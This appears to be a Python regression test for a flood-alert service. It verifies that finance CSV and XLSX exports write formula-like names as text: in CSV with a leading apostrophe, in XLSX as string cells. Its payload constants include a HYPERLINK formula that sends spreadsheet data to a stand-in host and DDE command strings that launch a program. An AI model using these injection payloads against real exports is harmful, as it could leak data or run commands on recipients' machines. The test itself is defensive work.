"""Issue 19 #6: zone names and departments starting with = + - @ became live formulas (HYPERLINK, DDE) in the
finance CSV and XLSX. Every spreadsheet export writes them as text: a leading apostrophe in CSV, string cells
in XLSX."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from tests.factories import IN_A, ZONE_A, create_subscriber, create_zone

ZONE = '=HYPERLINK("http://evil.example/?leak="&A1,"Wilda")'
DEPARTMENT = "+cmd|' /C calc'!A0"
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_finance_exports_never_carry_a_live_formula(api, staff, worker, wait):
    zone = create_zone(api, ZONE, ZONE_A)
    create_subscriber(api, "+48601000001", IN_A)
    status, c = api.post(
        "/api/v1/campaigns",
        {
            "kind": "alert",
            "severity": "severe",
            "title": TITLE,
            "body": "Alarm powodziowy.",
            "department": DEPARTMENT,
            "zone_ids": [zone],
        },
    )
    assert status == 201, c
    assert api.post(f"/api/v1/campaigns/{c['id']}/send")[0] == 202
    wait(lambda: api.get(f"/api/v1/campaigns/{c['id']}")[1]["status"] == "completed", 60, "the alert to be sent")
    finance, _email, token = staff("finance")
    month = datetime.now(ZoneInfo("Europe/Warsaw")).strftime("%Y-%m")

    cells = []
    for group_by in ("zone", "department", "campaign"):
        r = finance.get(f"/finance/{month}/report.csv", params={"group_by": group_by})
        assert r.status_code == 200, r.text[:300]
        cells += [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
        status, api_csv = api.with_token(token).call(
            "GET", f"/api/v1/billing/report.csv?month={month}&group_by={group_by}"
        )
        assert status == 200
        cells += [cell for row in csv.reader(io.StringIO(api_csv if isinstance(api_csv, str) else "")) for cell in row]
    texts = [cell for cell in cells if any(s in cell for s in ("HYPERLINK", "calc", "SUM"))]
    assert texts, cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert f"'{ZONE}" in texts and f"'{DEPARTMENT}" in texts

    r = finance.get(f"/finance/{month}/report.xlsx")
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(s in cell.value for s in ("HYPERLINK", "calc", "SUM")):
                    found[cell.value] = cell.data_type
    assert found.get(ZONE) == "s" and found.get(DEPARTMENT) == "s", found  # the text itself, as a string
    assert set(found.values()) == {"s"}, found  # no formula anywhere
